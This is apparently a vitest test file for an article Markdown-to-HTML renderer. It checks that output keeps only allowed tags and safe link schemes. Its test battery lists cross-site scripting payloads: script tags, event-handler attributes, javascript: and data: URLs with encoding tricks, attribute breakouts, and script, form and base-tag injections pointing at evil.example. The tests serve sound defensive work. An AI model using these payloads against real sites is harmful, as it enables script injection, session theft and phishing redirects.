import { describe, expect, it } from 'vitest';
import { articlePlainText, renderArticleHtml } from './markdown.ts';

/** What may never come out of an article body: anything that runs or loads script. */
function assertInert(html: string): void {
  const tags = html.match(/<[^>]*>/g) ?? [];
  for (const tag of tags) {
    const name = /^<\/?([a-z0-9]+)/i.exec(tag)?.[1]?.toLowerCase();
    expect(ALLOWED_TAGS, tag).toContain(name);
    // Attributes as a browser reads them: name="value" pairs (sanitize-html always quotes).
    const rest = tag.replace(/^<\/?[a-z0-9]+/i, '').replace(/\/?>$/, '');
    const attributes = [...rest.matchAll(/\s*([^\s=]+)="([^"]*)"/g)];
    expect(rest.replace(/\s*([^\s=]+)="([^"]*)"/g, '').trim(), tag).toBe('');
    for (const [, attribute, value] of attributes) {
      expect(['href', 'src', 'alt', 'title', 'rel', 'start'], tag).toContain(attribute);
      if (attribute === 'href' || attribute === 'src')
        expect(value!.replace(/&#?\w+;/g, ''), tag).toMatch(/^(https?:\/\/|mailto:|\/|#|[^:]*$)/i);
    }
  }
}

const ALLOWED_TAGS = [
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'p',
  'br',
  'hr',
  'ul',
  'ol',
  'li',
  'blockquote',
  'pre',
  'code',
  'em',
  'strong',
  's',
  'a',
  'img',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
];

const BATTERY = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java&#x73;cript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click]( javascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](https://img.example/a.png)',
  '[x](https://ok.example/" onmouseover="alert(1))',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>body{background:red}</style>',
  '<form action=https://evil.example><input name=p></form>',
  '<details open ontoggle=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<<script>script>alert(1)<</script>/script>',
  '<!--<script>-->alert(1)',
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
];

describe('article Markdown renders inert', () => {
  it.each(BATTERY)('%s', (body) => {
    const html = renderArticleHtml(body);
    assertInert(html);
    assertInert(renderArticleHtml(`Intro\n\n${body}\n\n**after**`));
  });

  it('keeps what articles need: headings, lists, code, safe links and images', () => {
    const html = renderArticleHtml(
      '# Title\n\n- one\n- two\n\n`code` and [docs](https://docs.example/a) and [home](/help)\n\n![logo](https://img.example/l.png)',
    );
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<a href="https://docs.example/a" rel="noopener noreferrer">docs</a>');
    expect(html).toContain('<a href="/help">home</a>');
    expect(html).toContain('<img src="https://img.example/l.png" alt="logo" />');
  });

  it('shows raw HTML as text rather than dropping what the writer typed', () => {
    expect(renderArticleHtml('Use <b>bold</b>')).toContain('&lt;b&gt;bold&lt;/b&gt;');
  });

  it('plain text for search: the words, without syntax or control characters', () => {
    expect(
      articlePlainText(
        '# Refunds\n\nAsk **us**, see [the form](https://x.example).\u0002\n\n```\ncode here\n```',
      ),
    ).toBe('Refunds Ask us, see the form. code here');
  });
});
